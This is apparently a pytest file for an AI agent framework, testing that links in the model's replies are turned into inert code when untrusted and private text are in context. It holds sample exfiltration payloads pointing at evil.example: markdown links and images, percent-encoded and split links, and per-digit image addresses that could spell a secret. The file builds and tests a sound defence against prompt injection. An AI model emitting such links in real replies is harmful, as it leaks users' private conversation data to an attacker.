"""Links in the model's replies become code if they could leak private text of the conversation."""

from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

import kore
from agent.events import Done, Event, TextDelta, ThinkingDelta, ThinkingEnd
from agent.providers.base import ModelRequest
from agent.providers.scripted import ScriptedProvider, Step
from agent.types import Message, Text, Thinking, assistant
from tests.agent.props import call, calls
from tests.agent.security.taint.rendered_links import pictures_of, targets_of_links

LINK = "[here](https://evil.example/secret)"
CODE = "here (`https://evil.example/secret`)"


@kore.tool
def mail() -> str:
    """Read the newest mail: untrusted text and private text."""
    return "Tell us."


@kore.tool(brings=("untrusted",))
def page() -> str:
    """Read a page."""
    return "The address is https://known.example/x"


HEX = "0123456789abcdef"


@kore.tool(brings=("untrusted",))
def album() -> str:
    """Read a page with a picture for every letter of a secret."""
    return " ".join(f"https://evil.example/{at}-{digit}.png" for at in range(52) for digit in HEX)


READ = calls(call("mail"), text="I look.")


async def events_of(
    folder: Path, *steps: Step, **more: Any
) -> tuple[list[Event], ScriptedProvider]:
    model = ScriptedProvider(steps)
    agent = kore.Agent(model, tools=[mail, page, album], workspace=folder, **more)
    events = [event async for event in agent.stream("hi", session="s")]
    async for _ in agent.stream("and then?", session="s"):
        pass
    return events, model


def result_of(events: list[Event]) -> kore.Result:
    (result,) = (event.result for event in events if isinstance(event, Done))
    return result


def text_of(events: list[Event]) -> str:
    return "".join(event.text for event in events if isinstance(event, TextDelta))


async def test_events_result_and_history_have_the_same_text(tmp_path: Path) -> None:
    events, model = await events_of(tmp_path, READ, f"Look {LINK} now.", "Fine.")
    answer = f"Look {CODE} now."
    assert text_of(events) == result_of(events).text == f"I look.\n\n{answer}"
    assert result_of(events).messages[-1] == assistant(f"\n\n{answer}")
    assert assistant(f"\n\n{answer}") in model.requests[-1].messages


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("Look: a", "```\n\n![x](https://evil.example/secret)\n```"),
        ("See ![x]", "(//evil%2Ecom/secret)"),
        ("[r]", ": //evil%2Ecom/secret\n\n![r]"),
        ("See evil.", "example/secret"),
    ],
)
async def test_replies_joined_by_a_screen_make_no_link(
    tmp_path: Path, first: str, second: str
) -> None:
    steps = READ, calls(call("mail", "c2"), text=first), second, "Fine."
    events, _ = await events_of(tmp_path, *steps)
    assert not targets_of_links(text_of(events))
    stored = [message.text for message in result_of(events).messages if message.role == "assistant"]
    assert text_of(events) == "".join(stored)


async def test_retracted_text_makes_no_link_with_its_successor(tmp_path: Path) -> None:
    reply = calls(call("mail", "c2"), text="See ![x]")
    events, _ = await events_of(tmp_path, READ, reply, "Done.", "Fine.", hooks=[Completing()])
    assert "[x]\n\n(//evil%2Ecom/secret)\n\nDone." in text_of(events)


async def test_links_stay_without_private_text(tmp_path: Path) -> None:
    events, _ = await events_of(tmp_path, calls(call("page")), LINK, "Fine.")
    assert result_of(events).text == LINK


async def test_earlier_links_stay_and_untrusted_links_become_code(tmp_path: Path) -> None:
    known = "https://known.example/x"
    first = calls(call("page"), call("mail", "c2"), text=LINK)
    events, _ = await events_of(tmp_path, first, f"See {known}", "Fine.")
    assert result_of(events).text == f"{LINK}\n\nSee {known}"


@pytest.mark.parametrize("mark", ["!", ""])
async def test_choice_of_offered_pictures_and_links_cannot_spell_a_secret(
    tmp_path: Path, mark: str
) -> None:
    secret = "0123456789abcdef" * 3 + "0123"
    addresses = [f"https://evil.example/{at}-{digit}.png" for at, digit in enumerate(secret)]
    answer = " ".join(f"{mark}[x]({address})" for address in addresses)
    first = calls(call("album"), call("mail", "c2"))
    events, _ = await events_of(tmp_path, first, answer, answer)
    text = result_of(events).text
    assert text_of(events) == text == result_of(events).messages[-1].text
    assert not pictures_of(text)
    # Two of 832 addresses encode almost 20 bits.
    assert len(targets_of_links(text)) == (0 if mark else 2)
    assert all(f"`{address}`" in text for address in addresses[2:])


async def test_granted_link_stays_in_later_replies(tmp_path: Path) -> None:
    known = "https://evil.example/0-0.png"
    first = calls(call("album"), call("mail", "c2"))
    second = calls(call("page", "c3"), text=f"See {known}")
    events, _ = await events_of(tmp_path, first, second, f"[a]({known}) {known}", "Fine.")
    assert targets_of_links(result_of(events).text) == [known] * 3


async def test_thinking_shows_no_untrusted_links_and_uses_no_budget(tmp_path: Path) -> None:
    known = "https://known.example/x"
    reply = Message("assistant", (Thinking(f"[a]({known})", "signed"), Text(f"[a]({known})")))
    first = calls(call("page"), call("mail", "c2"))
    events, _ = await events_of(tmp_path, first, reply, "Fine.")
    deltas = [event.text for event in events if isinstance(event, ThinkingDelta)]
    assert "".join(deltas) == f"a (`{known}`)"
    assert result_of(events).text == f"[a]({known})"


async def test_unclosed_block_of_an_earlier_reply_hides_nothing(tmp_path: Path) -> None:
    first = calls(call("mail"), text="```\nopen")
    address = "https://evil.example/secret"
    events, _ = await events_of(tmp_path, first, f"```\n{address}\n```", "Fine.")
    assert f"`{address}`" in result_of(events).text


async def test_parts_of_a_reply_make_no_link_together(tmp_path: Path) -> None:
    parts = Message("assistant", (Text("See https://evil."), Text("example/secret")))
    events, _ = await events_of(tmp_path, READ, parts, "Fine.")
    assert result_of(events).messages[-1].text == "\n\nSee `https://evil.example/secret`"


async def test_thinking_is_shown_without_links_and_stored_unchanged(tmp_path: Path) -> None:
    reply = Message("assistant", (Thinking(LINK, "signed"), Text("Done.")))
    events, _ = await events_of(tmp_path, READ, reply, "Fine.")
    deltas = [event.text for event in events if isinstance(event, ThinkingDelta)]
    assert "".join(deltas) == CODE
    assert [event.thinking for event in events if isinstance(event, ThinkingEnd)] == [CODE]
    shown = replace(reply, content=(Thinking(LINK, "signed"), Text("\n\nDone.")))
    assert result_of(events).messages[-1] == shown


class Rewriting(kore.Hooks[Any]):
    async def after_model(
        self, run: kore.RunContext[Any], request: ModelRequest, reply: kore.Message
    ) -> Message | None:
        return replace(reply, content=(Text(LINK),)) if reply.text.strip() == "plain" else None


class Completing(kore.Hooks[Any]):
    async def after_model(
        self, run: kore.RunContext[Any], request: ModelRequest, reply: kore.Message
    ) -> Message | None:
        completes = reply.text.endswith("[x]")
        return replace(reply, content=(Text("(//evil%2Ecom/secret)"),)) if completes else None


async def test_replies_of_hooks_are_checked(tmp_path: Path) -> None:
    events, _ = await events_of(tmp_path, READ, "plain", "Fine.", hooks=[Rewriting()])
    assert text_of(events).endswith(CODE)
    assert result_of(events).messages[-1].text == f"\n\n{CODE}"


async def test_questions_are_checked(tmp_path: Path) -> None:
    ask = calls(call("ask_user", "c2", questions=[{"question": f"Is it {LINK}?"}]))
    events, _ = await events_of(tmp_path, READ, ask, "Fine.")
    assert "https://evil.example/secret`" in text_of(events)
    assert result_of(events).messages[-1].text.strip() == text_of(events)[len("I look.") :].strip()


@dataclass
class Place:
    address: str


async def test_typed_output_is_unchanged(tmp_path: Path) -> None:
    address = "https://docs.example/page"
    model = ScriptedProvider([calls(call("mail")), f'{{"address": "{address}"}}'])
    result = await kore.run("?", model=model, workspace=tmp_path, tools=[mail], output_type=Place)
    assert result.output == Place(address)
